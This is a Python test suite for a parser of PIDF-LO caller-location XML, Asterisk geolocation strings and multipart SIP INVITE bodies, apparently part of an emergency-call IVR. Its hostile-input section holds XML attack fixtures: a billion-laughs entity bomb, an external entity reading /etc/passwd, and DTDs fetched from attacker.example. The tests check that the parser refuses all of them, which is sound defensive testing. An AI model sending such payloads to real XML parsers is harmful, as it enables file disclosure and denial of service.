"""PIDF-LO as carriers send it in the INVITE: the RFC 4119 / RFC 5491 example documents give
their positions, hostile XML is refused without expansion, and nothing but LocationParseError
ever comes out of the parser."""

from __future__ import annotations

import base64
import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ivr.location import Location, LocationParseError
from ivr.location.geo import haversine_m, point_in_polygon
from ivr.location.geoloc_profile import parse_geoloc_profile
from ivr.location.pidf import multipart_pidf, parse_pidf

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"'
    ' xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" xmlns:gml="http://www.opengis.net/gml"'
    ' xmlns:gs="http://www.opengis.net/pidflo/1.0" xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"'
    ' entity="pres:point2d@example.com">\n'
)


def device(shape: str, *, method: str = "Wiremap", extra: str = "") -> str:
    """An RFC 5491 §5 example document: one dm:device with one shape."""
    return (
        HEAD + ' <dm:device id="point2d">\n  <gp:geopriv>\n   <gp:location-info>\n' + shape + extra
        + '   </gp:location-info>\n   <gp:usage-rules/>\n   <gp:method>' + method + "</gp:method>\n  </gp:geopriv>\n"
        + "  <dm:deviceID>mac:1234567890ab</dm:deviceID>\n  <dm:timestamp>2007-06-22T20:57:29Z</dm:timestamp>\n"
        + " </dm:device>\n</presence>\n"
    )


POINT = '<gml:Point srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-34.407 150.883</gml:pos></gml:Point>\n'
CIRCLE = (
    '<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>42.5463 -73.2512</gml:pos>'
    '<gs:radius uom="urn:ogc:def:uom:EPSG::9001">850.24</gs:radius></gs:Circle>\n'
)
ELLIPSE = (
    '<gs:Ellipse srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>42.5463 -73.2512</gml:pos>'
    '<gs:semiMajorAxis uom="urn:ogc:def:uom:EPSG::9001">1275</gs:semiMajorAxis>'
    '<gs:semiMinorAxis uom="urn:ogc:def:uom:EPSG::9001">670</gs:semiMinorAxis>'
    '<gs:orientation uom="urn:ogc:def:uom:EPSG::9102">43.2</gs:orientation></gs:Ellipse>\n'
)
RING = [(43.311, -73.422), (43.111, -73.322), (43.111, -73.222), (43.311, -73.122), (43.411, -73.222), (43.411, -73.322)]
POLYGON_POS = (
    '<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"><gml:exterior><gml:LinearRing>'
    + "".join(f"<gml:pos>{lat} {lon}</gml:pos>" for lat, lon in [*RING, RING[0]])
    + "</gml:LinearRing></gml:exterior></gml:Polygon>\n"
)
POLYGON_POSLIST = (
    '<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"><gml:exterior><gml:LinearRing><gml:posList>\n'
    + "\n".join(f"  {lat} {lon}" for lat, lon in [*RING, RING[0]])
    + "\n</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>\n"
)

# RFC 4119 §7's example: a tuple whose status carries a civic address (the first civicLoc schema).
RFC4119_CIVIC = """<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
    xmlns:cl="urn:ietf:params:xml:ns:pidf:geopriv10:civicLoc" entity="pres:geotarget@example.com">
 <tuple id="sg89ae">
  <status>
   <gp:geopriv>
     <gp:location-info>
       <cl:civicAddress>
         <cl:country>US</cl:country>
         <cl:A1>New York</cl:A1>
         <cl:A3>New York</cl:A3>
         <cl:A6>Broadway</cl:A6>
         <cl:HNO>123</cl:HNO>
         <cl:LOC>Suite 75</cl:LOC>
         <cl:PC>10027-0401</cl:PC>
       </cl:civicAddress>
     </gp:location-info>
     <gp:usage-rules>
       <gp:retransmission-allowed>yes</gp:retransmission-allowed>
       <gp:retention-expiry>2003-06-23T04:57:29Z</gp:retention-expiry>
     </gp:usage-rules>
   </gp:geopriv>
  </status>
  <timestamp>2003-06-22T20:57:29Z</timestamp>
 </tuple>
</presence>
"""

# RFC 4119 §7's geodetic example, in the GML 2 form of its time.
RFC4119_POINT = """<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
    xmlns:gml="urn:opengis:specification:gml:schema-xsd:feature:v3.0" entity="pres:geotarget@example.com">
 <tuple id="sg89ae">
  <status>
   <gp:geopriv>
     <gp:location-info>
       <gml:location>
         <gml:Point gml:id="point1" srsName="epsg:4326">
           <gml:coordinates>37:46:30N 122:25:10W</gml:coordinates>
         </gml:Point>
       </gml:location>
     </gp:location-info>
     <gp:usage-rules/>
   </gp:geopriv>
  </status>
  <timestamp>2003-06-22T20:57:29Z</timestamp>
 </tuple>
</presence>
"""

# A Kotim carrier's document: the handset's fix and the subscriber's registered address.
KOTIM = HEAD + """ <dm:device id="handset">
  <gp:geopriv>
   <gp:location-info>
    <gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-2.5330 112.9500</gml:pos>
     <gs:radius uom="urn:ogc:def:uom:EPSG::9001">25</gs:radius></gs:Circle>
    <ca:civicAddress xml:lang="id">
     <ca:country>ID</ca:country><ca:A1>Kalimantan Tengah</ca:A1><ca:A2>Kotawaringin Timur</ca:A2>
     <ca:A3>Sampit</ca:A3><ca:RD>Jalan Ahmad Yani</ca:RD><ca:HNO>12</ca:HNO><ca:PC>74322</ca:PC>
    </ca:civicAddress>
   </gp:location-info>
   <gp:method>A-GPS</gp:method>
  </gp:geopriv>
  <dm:timestamp>2026-11-28T13:00:00+07:00</dm:timestamp>
 </dm:device>
 <dm:person id="subscriber">
  <gp:geopriv>
   <gp:location-info>
    <ca:civicAddress><ca:country>ID</ca:country><ca:A3>Sampit</ca:A3><ca:A4>Baamang</ca:A4><ca:NAM>Toko Sinar</ca:NAM></ca:civicAddress>
   </gp:location-info>
   <gp:method>Manual</gp:method>
  </gp:geopriv>
 </dm:person>
</presence>
"""


def test_the_rfc_5491_point_gives_its_position_method_and_time() -> None:
    [loc] = parse_pidf(device(POINT))
    assert (loc.source, loc.shape, loc.latitude, loc.longitude, loc.radius_m) == ("pidf", "point", -34.407, 150.883, None)
    assert loc.method == "Wiremap"
    assert loc.measured_at == "2007-06-22T20:57:29+00:00"
    assert loc.detail == {"element": "device", "id": "point2d", "entity": "pres:point2d@example.com", "device_id": "mac:1234567890ab"}


def test_the_rfc_5491_circle_gives_its_radius_in_metres() -> None:
    [loc] = parse_pidf(device(CIRCLE).encode())
    assert (loc.shape, loc.latitude, loc.longitude, loc.radius_m) == ("circle", 42.5463, -73.2512, 850.24)


def test_the_rfc_5491_ellipse_is_as_uncertain_as_its_semi_major_axis() -> None:
    [loc] = parse_pidf(device(ELLIPSE))
    assert (loc.shape, loc.radius_m) == ("ellipse", 1275)
    assert loc.detail["semi_minor_m"] == "670"


@pytest.mark.parametrize("polygon", [POLYGON_POS, POLYGON_POSLIST], ids=["pos", "posList"])
def test_the_rfc_5491_polygon_gives_its_centroid_and_the_circle_around_its_vertices(polygon: str) -> None:
    [loc] = parse_pidf(device(polygon))
    assert loc.shape == "polygon"
    assert loc.polygon == tuple(RING)  # the closing vertex is not repeated
    assert loc.latitude is not None and loc.longitude is not None
    assert point_in_polygon(loc.latitude, loc.longitude, RING)
    assert loc.latitude == pytest.approx(43.261, abs=0.01) and loc.longitude == pytest.approx(-73.272, abs=0.01)
    farthest = max(haversine_m((loc.latitude, loc.longitude), v) for v in RING)
    assert loc.radius_m == pytest.approx(farthest)
    assert 10_000 < farthest < 20_000


def test_the_rfc_4119_civic_example_gives_a_civic_location_from_the_tuple() -> None:
    [loc] = parse_pidf(RFC4119_CIVIC)
    assert (loc.shape, loc.has_position) == ("civic", False)
    assert loc.civic == {"country": "US", "A1": "New York", "A3": "New York", "A6": "Broadway", "HNO": "123", "LOC": "Suite 75",
                         "PC": "10027-0401"}
    assert loc.measured_at == "2003-06-22T20:57:29+00:00"
    assert loc.detail["element"] == "tuple" and loc.detail["id"] == "sg89ae"


def test_the_rfc_4119_point_in_degrees_minutes_seconds_is_read() -> None:
    [loc] = parse_pidf(RFC4119_POINT)
    assert loc.latitude == pytest.approx(37 + 46 / 60 + 30 / 3600)
    assert loc.longitude == pytest.approx(-(122 + 25 / 60 + 10 / 3600))


def test_a_kotim_document_gives_the_handset_circle_with_its_address_and_the_persons_address() -> None:
    handset, person = parse_pidf(KOTIM)
    assert (handset.shape, handset.latitude, handset.longitude, handset.radius_m) == ("circle", -2.533, 112.95, 25)
    assert handset.civic["A3"] == "Sampit" and handset.civic["RD"] == "Jalan Ahmad Yani"
    assert handset.method == "A-GPS"
    assert handset.measured_at == "2026-11-28T06:00:00+00:00"  # WIB turned to UTC
    assert (person.shape, person.civic["A4"], person.method, person.detail["element"]) == ("civic", "Baamang", "Manual", "person")


def test_a_3d_point_keeps_its_altitude_in_the_detail() -> None:
    shape = '<gml:Point srsName="urn:ogc:def:crs:EPSG::4979"><gml:pos>-2.5330 112.9500 12.5</gml:pos></gml:Point>'
    [loc] = parse_pidf(device(shape))
    assert (loc.latitude, loc.longitude, loc.detail["altitude_m"]) == (-2.533, 112.95, "12.5")


def test_a_sphere_reads_as_a_circle_and_says_what_it_was() -> None:
    shape = ('<gs:Sphere srsName="urn:ogc:def:crs:EPSG::4979"><gml:pos>-2.5330 112.9500 20</gml:pos>'
             '<gs:radius uom="urn:ogc:def:uom:EPSG::9001">40</gs:radius></gs:Sphere>')
    [loc] = parse_pidf(device(shape))
    assert (loc.shape, loc.radius_m, loc.detail["gml_shape"]) == ("circle", 40, "Sphere")


def test_a_polygon_in_3d_poslist_is_read_three_numbers_at_a_time() -> None:
    flat = " ".join(f"{lat} {lon} 10" for lat, lon in [*RING, RING[0]])
    shape = (f'<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4979"><gml:exterior><gml:LinearRing><gml:posList>{flat}</gml:posList>'
             "</gml:LinearRing></gml:exterior></gml:Polygon>")
    [loc] = parse_pidf(device(shape))
    assert loc.polygon == tuple(RING)


# Hostile and broken documents ------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="&lol9;"/>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
 xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"><dm:device id="x"><gp:geopriv><gp:method>&secret;</gp:method>
 </gp:geopriv></dm:device></presence>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/pidf.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>
"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"])
def test_entities_and_dtds_are_refused_and_never_expanded(doc: str) -> None:
    with pytest.raises(LocationParseError, match="DTD or entities"):
        parse_pidf(doc)


def test_a_10_mb_body_is_refused_before_it_is_parsed() -> None:
    huge = device(POINT).replace("<gp:usage-rules/>", "<gp:usage-rules>" + "x" * 10_000_000 + "</gp:usage-rules>")
    with pytest.raises(LocationParseError, match="bytes refused"):
        parse_pidf(huge.encode())


def test_the_size_limit_counts_bytes_not_characters() -> None:
    doc = device(POINT).replace("Wiremap", "é" * 100)
    parse_pidf(doc, max_bytes=len(doc.encode()))
    with pytest.raises(LocationParseError, match="more than the"):
        parse_pidf(doc, max_bytes=len(doc) + 50)


def test_truncated_xml_is_refused_with_where_it_broke() -> None:
    doc = device(CIRCLE)
    with pytest.raises(LocationParseError, match=r"not well-formed XML.*line"):
        parse_pidf(doc[: len(doc) // 2])


@pytest.mark.parametrize(("doc", "message"), [
    ("", "empty"),
    ("<html><body>hello</body></html>", "expected a PIDF <presence> document, found <html>"),
    (HEAD + "<tuple id='a'><status><basic>open</basic></status></tuple></presence>", "no gp:geopriv"),
    (device(""), "no shape or ca:civicAddress"),
])
def test_documents_without_a_location_say_what_is_missing(doc: str, message: str) -> None:
    with pytest.raises(LocationParseError, match=message):
        parse_pidf(doc)


@pytest.mark.parametrize(("pos", "why"), [
    ("95.0 112.95", "not on Earth"),
    ("-2.533 200", "not on Earth"),
    ("112.95 -2.533", "latitude comes first"),  # longitude first, as GeoJSON would have it
    ("NaN 112.95", "expected a number"),
    ("-2.5 inf", "expected a number"),
    ("1e999 112.95", "too large"),
])
def test_coordinates_out_of_range_drop_that_shape_only(pos: str, why: str) -> None:
    bad = f'<gml:Point srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>{pos}</gml:pos></gml:Point>'
    with pytest.raises(LocationParseError, match=why):
        parse_pidf(device(bad))
    # Beside a good shape, the good one is kept.
    [loc] = parse_pidf(device(bad, extra=CIRCLE))
    assert loc.shape == "circle"


@pytest.mark.parametrize(("shape", "named"), [
    ('<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-2.5 112.9</gml:pos><gs:radius uom="urn:ogc:def:uom:EPSG::9001">big</gs:radius></gs:Circle>',
     "gs:Circle gs:radius: expected a number, found 'big'"),
    ('<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-2.5 112.9</gml:pos><gs:radius uom="urn:ogc:def:uom:EPSG::9001">-3</gs:radius></gs:Circle>',
     "gs:radius: a distance cannot be negative"),
    ('<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-2.5 112.9</gml:pos><gs:radius uom="urn:ogc:def:uom:EPSG::9002">80</gs:radius></gs:Circle>',
     "gs:radius: unit 'urn:ogc:def:uom:EPSG::9002' is not metres"),
    ('<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-2.5 112.9</gml:pos></gs:Circle>', "gs:Circle: circle without its radius"),
    ('<gml:Point srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-2.5</gml:pos></gml:Point>', "gml:Point gml:pos: expected \"latitude longitude\""),
    ('<gml:Point srsName="urn:ogc:def:crs:EPSG::3857"><gml:pos>-282000 12573000</gml:pos></gml:Point>', "srsName .* is not WGS84"),
    ('<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"><gml:exterior><gml:LinearRing><gml:posList>1 2 3</gml:posList>'
     "</gml:LinearRing></gml:exterior></gml:Polygon>", "gml:posList: 3 numbers do not make 2-D positions"),
    ('<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"><gml:exterior><gml:LinearRing><gml:posList>1 2 1 2 3 4 1 2</gml:posList>'
     "</gml:LinearRing></gml:exterior></gml:Polygon>", "at least 3 distinct positions"),
    ('<gml:Polygon srsName="urn:ogc:def:crs:EPSG::4326"></gml:Polygon>', "no gml:exterior"),
])
def test_wrong_values_are_named_by_their_element(shape: str, named: str) -> None:
    with pytest.raises(LocationParseError, match=named):
        parse_pidf(device(shape))


def test_the_message_says_which_device_held_the_broken_shape() -> None:
    bad = '<gml:Point srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>x y</gml:pos></gml:Point>'
    with pytest.raises(LocationParseError, match=r"device 'point2d': gml:Point gml:pos"):
        parse_pidf(device(bad))


def test_deep_nesting_within_the_size_limit_does_not_crash() -> None:
    doc = HEAD + "<tuple>" + "<x>" * 5000 + "</x>" * 5000 + "</tuple></presence>"
    with pytest.raises(LocationParseError):
        parse_pidf(doc)


def test_a_document_with_hundreds_of_shapes_gives_a_bounded_list() -> None:
    assert len(parse_pidf(device(POINT * 300))) == 50


# Property: any input, one outcome ----------------------------------------------------------------


def _is_usable(loc: Location) -> bool:
    if loc.has_position:
        assert loc.latitude is not None and loc.longitude is not None
        return abs(loc.latitude) <= 90 and abs(loc.longitude) <= 180 and (loc.radius_m is None or loc.radius_m >= 0)
    return bool(loc.civic)


@settings(max_examples=300)
@given(st.one_of(st.binary(max_size=400), st.text(max_size=400)))
def test_any_bytes_or_text_give_usable_locations_or_a_location_parse_error(data: bytes | str) -> None:
    try:
        found = parse_pidf(data)
    except LocationParseError:
        return
    assert found and all(_is_usable(loc) for loc in found)


XMLISH = st.lists(st.sampled_from([
    "<gml:pos>", "</gml:pos>", "-2.5 112.9", "1e400", "<gs:radius>", "</gs:radius>", "<gs:Circle>", "</gs:Circle>", "<gml:Point>",
    "</gml:Point>", "<gml:Polygon><gml:exterior><gml:LinearRing><gml:posList>", "</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>",
    "<ca:civicAddress>", "</ca:civicAddress>", "<ca:A3>Sampit</ca:A3>", "&amp;", "&lol;", "<![CDATA[x]]>", "<!-- c -->", " ", "95 200",
]), max_size=20)


@settings(max_examples=300)
@given(XMLISH)
def test_pidf_shaped_fragments_never_escape_as_other_errors(parts: list[str]) -> None:
    try:
        found = parse_pidf(device("".join(parts)))
    except LocationParseError:
        return
    assert all(_is_usable(loc) for loc in found)


@given(st.floats(-90, 90), st.floats(-180, 180), st.floats(0, 1e6))
def test_a_generated_circle_comes_back_as_sent(lat: float, lon: float, radius: float) -> None:
    [loc] = parse_pidf(device(f'<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>{lat!r} {lon!r}</gml:pos>'
                              f'<gs:radius uom="urn:ogc:def:uom:EPSG::9001">{radius!r}</gs:radius></gs:Circle>'))
    assert (loc.latitude, loc.longitude, loc.radius_m) == (lat, lon, radius)


# Asterisk's GEOLOC_PROFILE(location_info) -----------------------------------------------------


def test_asterisks_point_text_gives_the_position() -> None:
    loc = parse_geoloc_profile('shape="Point",crs="2d",pos="-2.5333 112.9500"', format="GML", method="GPS")
    assert loc is not None
    assert (loc.source, loc.shape, loc.latitude, loc.longitude, loc.method) == ("pidf", "point", -2.5333, 112.95, "GPS")


def test_asterisks_circle_text_gives_the_radius() -> None:
    loc = parse_geoloc_profile('shape="Circle",crs="2d",pos="-2.5330 112.9500",radius="25"', format="gml", method="")
    assert loc is not None and (loc.shape, loc.radius_m) == ("circle", 25)


def test_asterisks_documented_spacing_and_units_are_read() -> None:
    loc = parse_geoloc_profile('shape=Ellipse, crs=2d, pos="39.12345 -105.98766" semiMajorAxis="20", semiMinorAxis="10", '
                               'orientation="25 radians"', format="GML", method="")
    assert loc is not None and (loc.shape, loc.radius_m, loc.detail["semi_minor_m"]) == ("ellipse", 20, "10")
    loc = parse_geoloc_profile('shape="Sphere",crs="3d",pos3d="-2.533 112.95 20",radius="15"', format="GML", method="")
    assert loc is not None and (loc.radius_m, loc.detail["altitude_m"], loc.detail["gml_shape"]) == (15, "20", "Sphere")


def test_asterisks_polygon_text_lists_each_vertex() -> None:
    info = 'shape="Polygon",crs="2d",' + ",".join(f'pos="{lat} {lon}"' for lat, lon in RING)
    loc = parse_geoloc_profile(info, format="GML", method="Cell")
    assert loc is not None and loc.polygon == tuple(RING) and loc.shape == "polygon"


def test_asterisks_civic_text_keeps_commas_inside_quotes() -> None:
    loc = parse_geoloc_profile('country="ID",A1="Kalimantan Tengah",A3="Sampit",LOC="Pasar, lantai 2",lang="id"',
                               format="civicAddress", method="Manual")
    assert loc is not None
    assert loc.shape == "civic" and not loc.has_position
    assert loc.civic == {"country": "ID", "A1": "Kalimantan Tengah", "A3": "Sampit", "LOC": "Pasar, lantai 2"}


@pytest.mark.parametrize(("info", "fmt"), [("", "GML"), ("   ", ""), ('URI="https://lis.example/loc/1"', "URI"),
                                           ('URI="https://lis.example/loc/1"', "")])
def test_nothing_to_read_or_a_uri_gives_none(info: str, fmt: str) -> None:
    assert parse_geoloc_profile(info, format=fmt, method="") is None


@pytest.mark.parametrize(("info", "message"), [
    ('shape="Point",pos="-2.5 112.9', "no closing quote"),
    ('shape="Point" "-2.5 112.9"', "expected key=\"value\""),
    ('shape="Hexagon",pos="1 2"', "shape 'Hexagon' unknown"),
    ('shape="Point",crs="4d",pos="1 2"', "crs '4d' unknown"),
    ('shape="Point",pos="95 112"', "not on Earth"),
    ('shape="Circle",pos="-2.5 112.9"', "without its radius"),
    ('shape="Circle",pos="-2.5 112.9",radius="25 feet"', "unit 'feet' is not metres"),
    ('shape="Point",pos="-2.5 112.9",pos="-2.6 112.9"', "one centre position"),
])
def test_broken_asterisk_text_is_refused_with_a_reason(info: str, message: str) -> None:
    with pytest.raises(LocationParseError, match=message):
        parse_geoloc_profile(info, format="GML", method="")


@settings(max_examples=300)
@given(st.text(max_size=200), st.sampled_from(["GML", "civicAddress", "URI", "", "other"]))
def test_any_geoloc_text_gives_a_location_none_or_a_location_parse_error(info: str, fmt: str) -> None:
    try:
        loc = parse_geoloc_profile(info, format=fmt, method="")
    except LocationParseError:
        return
    assert loc is None or _is_usable(loc)


# The PIDF part of a multipart INVITE body ----------------------------------------------------------

SDP = "v=0\r\no=user1 53655765 2353687637 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 6000 RTP/AVP 0\r\n"


def multipart(pidf_part: str, *, boundary: str = "ivr112boundary") -> bytes:
    return (f"--{boundary}\r\nContent-Type: application/sdp\r\n\r\n{SDP}\r\n--{boundary}\r\n{pidf_part}\r\n--{boundary}--\r\n").encode()


def test_the_pidf_part_of_a_multipart_invite_is_found_and_parses() -> None:
    doc = device(CIRCLE)
    body = multipart(f"Content-Type: application/pidf+xml\r\nContent-ID: <loc-1@carrier.example>\r\n\r\n{doc}")
    part = multipart_pidf(body, "multipart/mixed;boundary=ivr112boundary")
    assert part is not None and part.strip() == doc.strip().encode()
    assert parse_pidf(part)[0].radius_m == 850.24


def test_a_base64_pidf_part_is_decoded() -> None:
    encoded = base64.b64encode(device(POINT).encode()).decode()
    body = multipart(f"Content-Type: application/pidf+xml\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}")
    part = multipart_pidf(body, 'multipart/mixed; boundary="ivr112boundary"')
    assert part is not None and parse_pidf(part)[0].latitude == -34.407


def test_bodies_without_a_pidf_part_give_none() -> None:
    body = multipart("Content-Type: text/plain\r\n\r\nhello")
    assert multipart_pidf(body, "multipart/mixed;boundary=ivr112boundary") is None
    assert multipart_pidf(SDP.encode(), "application/sdp") is None
    assert multipart_pidf(b"garbage", "multipart/mixed") is None


def test_a_bare_pidf_body_is_itself_the_part() -> None:
    assert multipart_pidf(b"<presence/>", "application/pidf+xml") == b"<presence/>"


def test_a_huge_sip_body_is_refused() -> None:
    with pytest.raises(LocationParseError, match="refused"):
        multipart_pidf(b"x" * 10_000_000, "multipart/mixed;boundary=b")


@settings(max_examples=300)
@given(st.binary(max_size=600), st.sampled_from(["multipart/mixed;boundary=b", "multipart/mixed", "multipart/related; boundary=\"b\"",
                                                  "multipart/mixed;boundary=b\r\nX-Evil: 1", "application/pidf+xml", "text/plain"]))
def test_any_body_gives_bytes_or_none_never_a_crash(body: bytes, ctype: str) -> None:
    got = multipart_pidf(b"--b\r\nContent-Type: application/pidf+xml\r\n\r\n" + body + b"\r\n--b--\r\n", ctype)
    assert got is None or isinstance(got, bytes)


def test_no_float_noise_in_the_shipped_examples() -> None:
    # The polygon's radius is a real distance, not NaN, for the RFC's shape.
    [loc] = parse_pidf(device(POLYGON_POS))
    assert loc.radius_m is not None and math.isfinite(loc.radius_m)
